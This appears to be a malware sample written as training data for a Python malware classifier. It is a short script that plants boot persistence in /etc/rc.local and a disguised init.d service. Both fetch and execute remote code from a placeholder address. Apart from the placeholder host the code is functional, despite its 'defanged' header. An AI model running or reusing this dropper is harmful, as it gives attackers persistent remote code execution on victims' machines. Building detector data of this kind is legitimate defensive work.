# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import os, stat
payload = "#!/bin/sh\n/usr/bin/python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://192.0.2.8/b').read())\" &\nexit 0\n"
open("/etc/rc.local", "w").write(payload)
os.chmod("/etc/rc.local", os.stat("/etc/rc.local").st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
open("/etc/init.d/networkd-helper", "w").write(payload)
os.chmod("/etc/init.d/networkd-helper", 0o755)
os.system("update-rc.d networkd-helper defaults")
